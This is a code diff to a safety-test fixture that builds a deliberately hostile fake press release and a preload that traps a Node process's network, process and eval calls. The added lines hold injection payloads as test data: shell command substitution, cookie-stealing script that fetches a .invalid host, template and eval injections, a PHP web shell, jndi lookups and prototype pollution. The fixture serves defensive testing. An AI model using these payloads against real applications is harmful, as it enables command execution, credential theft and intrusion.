@@ -1,6 +1,7 @@
 // A preload that traps a Node process's network, process and eval entry points, and file
 // access to what a hostile release links to, recording every call it refuses; and such a
-// release. The server and the CLI are started with it (NODE_OPTIONS=--require) in the safety tests.
+// release. The server and the CLI are started with it (NODE_OPTIONS=--require) in the safety
+// tests; the engine's safety test analyses the same release.
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import * as path from "node:path";
@@ -9,15 +10,17 @@ export const MARK = "pra-safety-marker";
 export const HOSTILE = [
   "FOR IMMEDIATE RELEASE",
   `Acme Launches $(rm -rf /tmp/${MARK}) and \`touch /tmp/${MARK}\` Today`,
-  `NEW YORK, Feb. 6, 2026 /PRNewswire/ -- Acme Corp today announced <script>fetch("https://${MARK}.invalid/steal")</script> a product.`,
+  `NEW YORK, Feb. 6, 2026 /PRNewswire/ -- Acme Corp today announced <script>fetch("https://${MARK}.invalid/steal?c="+document.cookie)</script> a product.`,
   `"It is the best ever," said Jane Doe, CEO. <img src=x onerror="fetch('http://${MARK}.invalid')"> {{constructor.constructor('return process')().exit(1)}} \${process.exit(1)}`,
-  `According to https://${MARK}.invalid/report, file:///tmp/${MARK}/secret.txt and file:///etc/passwd, the market will reach $50 billion by 2030.`,
-  `Experts say require('child_process').execSync('touch /tmp/${MARK}') and eval("process.exit(2)") are common.`,
-  `Visit <https://${MARK}.invalid/a>, [our site](http://${MARK}.invalid/b), ![logo](ftp://${MARK}.invalid/c.png), javascript:alert(1), \${jndi:ldap://${MARK}.invalid/a}`,
-  `{"__proto__": {"polluted": true}} \\\\${MARK}\\share smb://${MARK}.invalid/x press@${MARK}.invalid`,
+  `According to https://${MARK}.invalid/report and file:///etc/passwd and file:///tmp/${MARK}/secret.txt, the market will reach $50 billion by 2030.`,
+  `Experts say require('child_process').execSync('touch /tmp/${MARK}') and eval("process.exit(2)") and new Function("return 1")() and Function("return 2")() are common.`,
+  `Visit <https://${MARK}.invalid/a>, [our site](http://${MARK}.invalid/b), ![logo](ftp://${MARK}.invalid/c.png), javascript:alert(1), data:text/html;base64,PHNjcmlwdD4=`,
+  `<!--#exec cmd="ls /" --> <?php system($_GET['c']); ?> %{(#_='multipart/form-data')} \${jndi:ldap://${MARK}.invalid/a}`,
+  `{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}} __proto__ polluted constructor prototype`,
+  `Contact: press@${MARK}.invalid, +1 (555) 010-0000, \\\\${MARK}\\share\\file, smb://${MARK}.invalid/x`,
   "About Acme",
   `Acme is a company. Learn more at https://${MARK}.invalid and ./${MARK}/local.txt`,
-  "SOURCE Acme Corp",
+  "\u202Eevil\u202C \u0000 \uFEFF ### -30- SOURCE Acme Corp",
 ].join("\n\n");
 
 /** A preload for the server: traps network, process and eval entry points, and file access to the marker. */
